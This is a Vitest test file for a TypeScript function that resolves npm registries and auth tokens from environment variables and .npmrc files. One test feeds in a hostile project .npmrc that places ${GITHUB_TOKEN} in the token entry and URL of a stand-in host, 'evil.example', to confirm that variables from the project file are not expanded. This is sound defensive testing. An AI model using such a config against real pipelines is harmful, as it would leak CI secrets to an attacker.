/* biome-ignore-all lint/suspicious/noTemplateCurlyInString: npm's own way to name a variable */
import { chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { findRegistries } from '../../src/adapters/native/fetch/registry.ts';

let scratch: string;
let home: string;
let project: string;

beforeEach(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'native-registry-'));
  home = join(scratch, 'home');
  project = join(scratch, 'project');
  await mkdir(home);
  await mkdir(project);
});

afterEach(() => rm(scratch, { recursive: true, force: true }));

/** The registry of a package, with the given files and variables and no npm that could be asked. */
async function registryOf(
  name: string,
  files: { readonly project?: string; readonly user?: string },
  variables: Readonly<Record<string, string>> = {},
) {
  await writeFile(join(project, '.npmrc'), files.project ?? '');
  await writeFile(join(home, '.npmrc'), files.user ?? '');
  const registries = await findRegistries({ HOME: home, PATH: scratch, ...variables }, project);
  return registries.registryOf(name);
}

describe('findRegistries', () => {
  it.each([
    {
      name: 'the environment',
      project: 'registry=http://project/',
      variables: { npm_config_registry: 'http://env/' },
      expected: 'http://env/',
    },
    {
      name: 'the environment in capitals',
      variables: { NPM_CONFIG_REGISTRY: 'http://env' },
      expected: 'http://env/',
    },
    {
      name: 'the project',
      project: 'registry = "http://project/npm"',
      user: 'registry=http://user/',
      expected: 'http://project/npm/',
    },
    { name: 'the user', user: '; note\nregistry=http://user/', expected: 'http://user/' },
    {
      name: 'the scope',
      project: '@duckdb:registry=http://scope/',
      variables: { npm_config_registry: 'http://env/' },
      expected: 'http://scope/',
    },
    {
      name: 'a variable in the file of the user',
      user: 'registry=http://${WHERE}/',
      variables: { WHERE: 'there' },
      expected: 'http://there/',
    },
  ])('takes the address from $name', async ({ project: inProject, user, variables, expected }) => {
    const files = { ...(inProject && { project: inProject }), ...(user && { user }) };
    expect(await registryOf('@duckdb/node-api', files, variables)).toEqual({ url: expected });
  });

  it('asks npm when no file and no variable names a registry, without tokens in its environment', async () => {
    const npm = join(scratch, 'npm');
    await writeFile(
      npm,
      `#!/bin/sh\ntest -z "$GITHUB_TOKEN" && test "$1 $2 $3" = "config get registry" && echo http://npm/\n`,
    );
    await chmod(npm, 0o755);
    const path = [scratch, process.env.PATH].join(delimiter);
    expect(await registryOf('small', {}, { GITHUB_TOKEN: 'secret', PATH: path })).toEqual({
      url: 'http://npm/',
    });
  });

  it('gives a token to the address it was written for, and to folders below', async () => {
    const user = '//a.example/npm/:_authToken=one\n//b.example/:_auth=dXNlcg==';
    const at = (url: string) => registryOf('small', { user }, { npm_config_registry: url });
    expect(await at('https://a.example/npm/deep/')).toMatchObject({ authorization: 'Bearer one' });
    expect(await at('https://a.example/other/')).not.toHaveProperty('authorization');
    expect(await at('https://a.example:8080/npm/')).not.toHaveProperty('authorization');
    expect(await at('https://b.example/x/')).toMatchObject({ authorization: 'Basic dXNlcg==' });
  });

  it('fills no variable into the file of the project, which a pull request can change', async () => {
    const project =
      '//evil.example/:_authToken=${GITHUB_TOKEN}\nregistry=https://evil.example/${GITHUB_TOKEN}/';
    const variables = { GITHUB_TOKEN: 'secret', npm_config_registry: 'https://evil.example/' };
    expect(await registryOf('small', { project }, variables)).toEqual({ url: 'https://evil.example/' });
    await expect(registryOf('small', { project }, { GITHUB_TOKEN: 'secret' })).rejects.toThrow(
      'no package registry',
    );
  });

  it('trusts the certificates that cafile names', async () => {
    await writeFile(join(scratch, 'authority.pem'), 'PEM');
    const user = `registry=http://user/\ncafile=${join(scratch, 'authority.pem')}`;
    expect(await registryOf('small', { user })).toEqual({ url: 'http://user/', certificates: 'PEM' });
  });

  it('refuses an address that is none', async () => {
    await expect(registryOf('small', { user: 'registry=ftp://user/' })).rejects.toThrow('"ftp://user/"');
  });
});
